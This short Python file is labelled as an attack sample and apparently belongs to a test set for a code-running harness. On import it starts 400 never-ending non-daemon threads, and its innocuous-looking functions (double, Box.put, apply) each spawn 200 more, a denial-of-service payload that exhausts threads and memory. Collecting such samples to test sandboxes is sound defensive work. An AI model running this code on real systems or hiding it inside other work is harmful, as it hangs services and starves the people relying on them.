# /// attack
# tries = "Starts a thousand threads with small stacks that never end."
# gain = "harm"
# plain = "harm"
# ///
import threading
import time

threading.stack_size(1 << 16)


def for_ever():
    while True:
        time.sleep(60)


def start(many):
    for _ in range(many):
        try:
            threading.Thread(target=for_ever, daemon=False).start()
        except RuntimeError:
            return


start(400)


def double(x):
    start(200)


class Box:
    def put(self, x):
        start(200)

    def take(self):
        return None


def apply(f, x):
    start(200)
